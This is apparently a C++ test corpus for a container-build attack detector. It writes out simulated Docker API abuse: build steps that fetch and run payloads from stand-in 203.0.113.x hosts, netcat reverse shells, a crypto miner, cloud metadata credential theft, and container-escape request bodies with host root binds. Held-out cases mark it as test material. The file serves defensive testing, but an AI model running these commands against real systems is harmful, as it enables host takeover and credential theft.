#include "attacks.h"

#include <utility>

namespace kilnwatch::test::corpus {
namespace {

constexpr bool kTuned = false;
constexpr bool kHeldOut = true;
const std::string kSiteAddress = "10.20.0.2";  // of the machine that builds
const std::string kAlpine = "registry.company.test/alpine:3.20";

std::string evil(unsigned n) { return "203.0.113." + std::to_string(n); }

// By number, without a name.
Fetch by_number(const std::string& ip, std::uint16_t port) {
  Fetch fetch;
  fetch.name = fetch.address = ip;
  fetch.port = port;
  fetch.tls = false;
  fetch.path = "/payload.sh";
  fetch.program = "/bin/busybox";
  fetch.args = {"wget", "-O", "/payload.sh",
                "http://" + ip + ":" + std::to_string(port) + "/payload.sh"};
  fetch.answer = Answer::kNothing;
  return fetch;
}

Fetch shell_to(const std::string& ip, std::uint16_t port) {
  Fetch fetch = by_number(ip, port);
  fetch.program = "/bin/bash";
  fetch.args = {"bash", "-i"};
  fetch.silent = true;
  return fetch;
}

Fetch by_name(const std::string& name) {
  Fetch fetch;
  fetch.name = name;
  fetch.path = "/payload.sh";
  fetch.args = {"curl", "-fsSL", "https://" + name + "/payload.sh"};
  return fetch;
}

Fetch packages() {
  Fetch fetch = by_name("dl-cdn.alpine.test");
  fetch.program = "/sbin/apk";
  fetch.args = {"apk", "add", "curl", "bash", "jq"};
  return fetch;
}

Step run(const std::string& line, std::vector<Fetch> fetches = {}) {
  return {"RUN " + line, true, false, {}, std::move(fetches)};
}

// FROM and the steps, as a plan with its file.
Plan plan(const std::string& name, const std::string& base, std::vector<Step> steps) {
  steps.insert(steps.begin(), Step{"FROM " + base, false, true, {}, {}});
  Plan out{name, {}, std::move(steps), {base}};
  for (const Step& step : out.steps) out.dockerfile += step.text + "\n";
  return out;
}

Step fetch_and_run(const Fetch& fetch) {
  std::string line;
  for (const auto& word : fetch.args) line += word + " ";
  return run(line + "&& sh /payload.sh", {fetch});
}

Asker remote(const std::string& address, const std::string& agent) {
  Asker asker;
  asker.tcp = address;
  asker.user_agent = agent;
  return asker;
}

Asker in_container(const std::string& exe) {
  Asker asker;
  asker.exe = exe;
  asker.args = {exe.substr(exe.rfind('/') + 1)};
  asker.in_container = true;
  asker.user_agent = "curl/8.5.0";
  return asker;
}

Asker root() {
  Asker asker;
  asker.args = {"docker", "build", "-t", "x", "."};
  asker.cgroup = "user.slice/user-0.slice/session-1.scope";
  return asker;
}

Attack make(const std::string& name, bool held_out, Builder builder, Asker asker, Plan plan) {
  Attack attack;
  attack.held_out = held_out;
  attack.build.id = "attack " + name;
  attack.build.tag = "kw-" + name + ":1";
  attack.build.plan = std::move(plan);
  attack.build.builder = builder;
  attack.build.asker = std::move(asker);
  attack.marks = {attack.build.tag};
  return attack;
}

// The engine is asked to fetch what it builds.
Attack asked(const std::string& name, bool held_out, Asker asker, const std::string& line,
             const std::string& fields, Plan plan) {
  Attack attack = make(name, held_out, Builder::kClassic, std::move(asker), std::move(plan));
  attack.build.request = "POST " + line + " HTTP/1.1\r\n" + fields;
  attack.build.context = false;
  attack.build.tag = "";
  return attack;
}

Attack deploys(Attack attack, bool privileged, std::vector<std::string> binds) {
  Run& made = attack.build.run.emplace();
  made.name = "kw-run-" + attack.build.id.substr(7);
  made.after = 1500;
  made.privileged = privileged;
  made.binds = std::move(binds);
  attack.marks.push_back(made.name);
  return attack;
}

// `body`: of the request that creates it.
Attack only_deploys(const std::string& name, bool held_out, Asker asker, const std::string& body) {
  Attack attack = deploys(make(name, held_out, Builder::kClassic, std::move(asker), {}), false, {});
  attack.build.builds = false;
  attack.build.run->body = body;
  return attack;
}

Attack marked(Attack attack, const std::string& mark) {
  attack.marks.push_back(mark);
  return attack;
}

const std::string kGo = "Host: 10.20.0.2:2375\r\nUser-Agent: Go-http-client/1.1\r\n";

// Requests that were seen in the wild or published, and what their steps did.
void add_requests(std::vector<Attack>& out) {
  const Fetch engine = by_number(kSiteAddress, 2375);
  out.push_back(
      marked(asked("ssrf-307", kTuned, remote("10.20.0.77", ""),
                   "/build?remote=http://" + evil(11) + "/Dockerfile&nocache=true&t=kw-ssrf-307:1",
                   kGo + "Referer: http://" + evil(11) + "/?Action=AssumeRoleWithWebIdentity\r\n",
                   plan("ssrf-307", "alpine:3.13",
                        {run("apk add curl bash jq", {packages()}),
                         run("set -ex && { echo '#!/bin/bash'; } | bash", {engine})})),
             evil(11)));
  out.push_back(marked(
      asked("browser", kHeldOut, remote("127.0.0.1", ""),
            "/build?remote=https://" + evil(12) + "/Dockerfile&networkmode=host",
            "Host: 127.0.0.1:2375\r\nUser-Agent: Mozilla/5.0\r\nOrigin: https://" + evil(12) +
                "\r\nSec-Fetch-Mode: no-cors\r\nSec-Fetch-Site: cross-site\r\n",
            plan("browser", "alpine:latest",
                 {run("apk add --no-cache curl jq", {packages()}),
                  run("curl -X POST http://host.docker.internal:2375/containers/create?name=shell",
                      {engine})})),
      evil(12)));
  out.push_back(marked(
      asked(
          "reverse-shell-by-page", kTuned, remote("127.0.0.1", ""),
          "/build?remote=https://github.test/kw-page/repo&networkmode=host",
          "Host: localhost:2375\r\nUser-Agent: Mozilla/5.0\r\nOrigin: http://" + evil(13) + "\r\n",
          plan("reverse-shell-by-page", "alpine",
               {run("nc 203.0.113.13 4444 -e /bin/sh", {shell_to(evil(13), 4444)})})),
      "kw-page"));
  out.push_back(marked(
      asked("ssrf-encoded", kHeldOut, remote("10.20.0.78", ""),
            "/build?remote=http://" + evil(14) + ":9000/Dockerfile&networkmode=host&nocache=true'",
            kGo, plan("ssrf-encoded", "alpine", {fetch_and_run(by_number(evil(14), 9000))})),
      evil(14)));
  out.push_back(marked(
      asked("portainer", kHeldOut, in_container("/portainer"),
            "/build?dockerfile=Dockerfile&remote=https%3A%2F%2Fgithub.test%2Fkw-portainer%2Fr.git"
            "%23main&t=kw-portainer:latest&t=kw-portainer:20261129",
            kGo, plan("portainer", "alpine:3", {fetch_and_run(by_name("get.kw-portainer.test"))})),
      "kw-portainer"));
  out.push_back(marked(
      asked("hand-made", kTuned, remote("10.20.0.99", ""),
            "http://localhost/v1.40/build?remote=https://github.test/kw-hand/r.git#master:/",
            "Host: *\r\n", plan("hand-made", "busybox", {fetch_and_run(by_number(evil(16), 80))})),
      "kw-hand"));
  out.push_back(
      marked(asked("named-dockerfile", kHeldOut, remote("10.20.0.98", ""),
                   "/build?dockerfile=baz&remote=http://" + evil(17) + "/testD",
                   kGo + "Content-Type: application/json\r\n",
                   plan("named-dockerfile", "busybox", {fetch_and_run(by_number(evil(17), 8000))})),
             evil(17)));
  Attack libpod = make(
      "libpod", kTuned, Builder::kPodmanApi, root(),
      plan("libpod", "registry.company.test/alpine:3", {fetch_and_run(by_number(evil(18), 8080))}));
  libpod.build.request =
      "POST /v5.0.0/libpod/build?dockerfile=%5B%22Containerfile.a%22%2C%22Dockerfile%22%5D&t="
      "kw-libpod:1 HTTP/1.1\r\nHost: d\r\nUser-Agent: curl/8.5.0\r\nContent-Type: "
      "application/x-tar\r\n";
  libpod.build.asker.exe = "/usr/bin/curl";
  libpod.build.asker.args = {"curl", "--unix-socket", "/run/podman/podman.sock"};
  out.push_back(marked(libpod, evil(18)));
  Attack sdk =
      make("sdk", kHeldOut, Builder::kClassic, remote("198.51.100.19", "docker-sdk-python/7.1.0"),
           plan("sdk", "alpine:3", {fetch_and_run(by_number(evil(19), 8080))}));
  sdk.build.request =
      "POST /v1.45/build?t=kw-sdk:1&q=False&nocache=False&rm=False&forcerm=False&pull=False "
      "HTTP/1.1\r\nHost: 10.20.0.2:2375\r\nUser-Agent: docker-sdk-python/7.1.0\r\n"
      "Accept-Encoding: gzip, deflate\r\nContent-Type: application/tar\r\n";
  out.push_back(deploys(marked(sdk, evil(19)), true, {"/:/host"}));
}

// Tools: two build, three only deploy what is pulled.
void add_tools(std::vector<Attack>& out, Internet& internet) {
  internet.add("archive.ubuntu.test", {"198.18.210.7", "198.18.210.8"});
  Fetch apt = by_name("archive.ubuntu.test");
  apt.tls = false;
  apt.port = 80;
  apt.program = "/usr/lib/apt/methods/http";
  apt.args = {"/usr/lib/apt/methods/http"};
  const std::vector<Step> steps = {run("echo t1612"),
                                   run("apt update && apt install -y git", {apt}),
                                   {"COPY test.sh .", false, false, {}, {}}};
  out.push_back(deploys(
      make("t1612", kTuned, Builder::kBuildKit, root(), plan("t1612", "ubuntu:20.04", steps)),
      false, {}));
  out.push_back(deploys(
      make("t1610", kHeldOut, Builder::kClassic, root(), plan("t1610", "ubuntu:20.04", steps)),
      false, {}));
  // Bodies as these tools write them, capital letters and all.
  out.push_back(only_deploys(
      "metasploit", kTuned, remote("10.20.0.97", "Mozilla/5.0"),
      R"({"Image":"alpine:latest","Cmd":"echo eA== | base64 -d > /mnt/q/tmp/r && chmod +x /mnt/q/tmp/r",)"
      R"("Entrypoint":["/bin/sh","-c"],"HostConfig":{"Binds":["/:/mnt/q"],"Privileged":true,"UsernsMode":"host"}})"));
  // Was set aside until there was a rule for what only deploys; another one has its place.
  out.push_back(only_deploys(
      "cdk", kTuned, in_container("/tmp/cdk"),
      R"({"Image":"alpine","Volumes":{"/host/":{}},"HostConfig":{"Binds":["/:/host"]},"CMD":["/bin/sh","-c","id"]})"));
  out.push_back(only_deploys(
      "deepce", kTuned, in_container("/usr/bin/curl"),
      R"({"Image":"alpine:latest","cmd":["/bin/sh","-c","chroot /mnt sh -c \"id\""],"Binds":["/:/mnt:rw"]})"));
  out.push_back(only_deploys(
      "nsenter", kHeldOut, remote("198.51.100.98", "Docker-Client/24.0.7 (linux)"),
      R"({"Image":"alpine","Cmd":["nsenter","-t","1","-m","sh"],"HostConfig":{"PidMode":"host","CapAdd":["cap_sys_admin"]}})"));
}

// A plain base, a payload from a new address, a deployment.
void add_plain(std::vector<Attack>& out) {
  const auto plain = [](const std::string& name, unsigned n) {
    return plan(name, kAlpine, {fetch_and_run(by_number(evil(n), 8080))});
  };
  out.push_back(marked(deploys(make("plain-tcp", kTuned, Builder::kClassic,
                                    remote("10.20.0.96", "curl/8.5.0"), plain("plain-tcp", 21)),
                               true, {"/:/host"}),
                       evil(21)));
  out.push_back(marked(deploys(make("plain-buildkit", kHeldOut, Builder::kBuildKit, root(),
                                    plain("plain-buildkit", 22)),
                               false, {}),
                       evil(22)));
  out.push_back(marked(
      deploys(make("plain-podman", kTuned, Builder::kPodman, root(), plain("plain-podman", 23)),
              true, {"/etc:/host"}),
      evil(23)));
  out.push_back(marked(make("plain-stage", kHeldOut, Builder::kBuildKit, root(),
                            plan("plain-stage", kAlpine,
                                 {run("apk add curl bash jq", {packages()}),
                                  {"FROM " + kAlpine + " AS second", false, true, "second", {}},
                                  fetch_and_run(by_number(evil(24), 80))})),
                       evil(24)));
}

// Steps that want to pass for known destinations, and others that are always wrong.
void add_disguises(std::vector<Attack>& out, Internet& internet) {
  const auto local = [&](const std::string& name, bool held_out, const Fetch& fetch) {
    return make(name, held_out, Builder::kBuildKit, root(),
                plan(name, kAlpine, {fetch_and_run(fetch)}));
  };
  Fetch resolved = by_name("pypi.test");
  resolved.address = evil(31);
  resolved.answer = Answer::kNothing;
  resolved.args = {"curl", "--resolve", "pypi.test:443:" + evil(31), "https://pypi.test/x"};
  out.push_back(marked(local("resolve-option", kHeldOut, resolved), evil(31)));
  Fetch host = by_number(evil(32), 80);
  host.name = "deb.debian.test";
  host.args = {"curl", "-H", "Host: deb.debian.test", "http://" + evil(32) + "/"};
  out.push_back(marked(local("forged-host", kTuned, host), evil(32)));
  internet.add_behind("assets.kw-front.test", "pypi.test");
  out.push_back(local("name-on-front", kHeldOut, by_name("assets.kw-front.test")));
  internet.add("static.kw-new.test", {evil(34)});
  out.push_back(marked(local("new-name", kTuned, by_name("static.kw-new.test")), evil(34)));
  internet.add("pypl.test", {evil(35)});
  out.push_back(marked(local("typing-error", kTuned, by_name("pypl.test")), evil(35)));
  Fetch forged = by_name("files.pythonhosted.test");
  forged.address = evil(36);
  forged.answer = Answer::kForged;
  out.push_back(marked(local("forged-answer", kTuned, forged), evil(36)));
  Fetch port = by_name("artifacts.company.test");
  port.port = 8443;
  out.push_back(local("new-port", kHeldOut, port));
  Fetch metadata = by_number("169.254.169.254", 80);
  metadata.path = "/latest/meta-data/iam/security-credentials/";
  out.push_back(local("metadata", kTuned, metadata));
  Fetch miner = shell_to(evil(39), 3333);
  miner.program = "/tmp/xmrig";
  miner.args = {"/tmp/xmrig", "-o", evil(39) + ":3333"};
  out.push_back(marked(local("miner", kHeldOut, miner), evil(39)));
  out.push_back(marked(local("reverse-shell", kHeldOut, shell_to(evil(40), 443)), evil(40)));
}

}  // namespace

std::vector<Attack> attacks(Internet& internet) {
  std::vector<Attack> out;
  add_requests(out);
  add_tools(out, internet);
  add_plain(out);
  add_disguises(out, internet);
  return out;
}

}  // namespace kilnwatch::test::corpus
